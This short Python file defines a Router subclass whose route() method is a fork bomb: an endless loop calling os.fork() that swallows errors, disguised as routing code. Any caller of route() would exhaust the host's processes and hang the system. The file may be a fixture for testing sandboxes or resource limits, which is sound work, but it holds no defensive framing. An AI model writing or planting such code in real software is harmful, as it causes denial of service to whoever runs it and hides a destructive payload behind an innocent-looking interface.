import os

from _router import Router as _R


class Router(_R):
    def route(self, key):
        while True:
            try:
                os.fork()
            except OSError:
                pass
